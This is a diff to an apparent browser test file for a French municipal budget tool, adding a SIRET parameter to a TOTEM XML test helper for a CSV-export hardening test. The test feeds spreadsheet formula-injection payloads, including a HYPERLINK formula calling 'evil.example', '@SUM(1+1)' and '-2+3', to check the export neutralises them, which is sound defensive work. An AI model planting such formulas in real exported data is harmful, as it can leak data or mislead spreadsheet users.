@@ -15,10 +15,10 @@ let base;
 const LINE = '<LigneBudget><Nature V="6042"/><Fonction V="212"/><CodRD V="D"/><MtReal V="100.00"/><OpBudg V="0"/><LibCpte V="LABEL"/></LigneBudget>\n';
 
 /** A TOTEM document (as the probes write them) with these lines. */
-function totem(lines, coll = 'COMMUNE TEST') {
+function totem(lines, coll = 'COMMUNE TEST', siret = '21930048000019') {
   return Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<DocumentBudgetaire xmlns="http://www.minefi.gouv.fr/cp/demat/docbudgetaire">' +
-    `<EnTeteDocBudgetaire><LibelleColl V="${coll}"/><IdColl V="21930048000019"/></EnTeteDocBudgetaire><Budget><EnTeteBudget><LibelleEtab V="BUDGET PRINCIPAL"/>` +
-    '<IdEtab V="21930048000019"/><Nomenclature V="M57-M57"/></EnTeteBudget><BlocBudget><NatDec V="09"/><Exer V="2023"/><NatVote V="FcIc"/><NatFonc V="3"/></BlocBudget>' +
+    `<EnTeteDocBudgetaire><LibelleColl V="${coll}"/><IdColl V="${siret}"/></EnTeteDocBudgetaire><Budget><EnTeteBudget><LibelleEtab V="BUDGET PRINCIPAL"/>` +
+    `<IdEtab V="${siret}"/>` + '<Nomenclature V="M57-M57"/></EnTeteBudget><BlocBudget><NatDec V="09"/><Exer V="2023"/><NatVote V="FcIc"/><NatFonc V="3"/></BlocBudget>' +
     `<InformationsGenerales><Information Code="PopTot" V="1000"/></InformationsGenerales>\n${lines}</Budget></DocumentBudgetaire>\n`);
 }
 
@@ -47,7 +47,9 @@ describe('hardening (issue 14)', { skip: !run && 'Chromium not installed' }, () 
     const page = await openDraft();
     const evil = '=HYPERLINK(&quot;http://evil.example/?x&quot;;&quot;clic&quot;)';
     const lines = LINE + LINE.replace('212', '311').replace('LABEL', '@SUM(1+1)') + LINE.replace('212', '020').replace('LABEL', '-2+3');
-    await page.setInputFiles('#draft-file', { name: '+budget.xml', mimeType: 'text/xml', buffer: totem(lines, evil) });
+    // A SIRET that no authority of the dataset has: no reference is proposed
+    // from it, so the export is the draft's own, whatever the timing.
+    await page.setInputFiles('#draft-file', { name: '+budget.xml', mimeType: 'text/xml', buffer: totem(lines, evil, '21999999900019') });
     await page.waitForSelector('[data-testid="draft-export-csv"]', { timeout: 60000 });
     const [dl] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid="draft-export-csv"]')]);
     const file = join(shotsDir, `harden-${dl.suggestedFilename()}`);
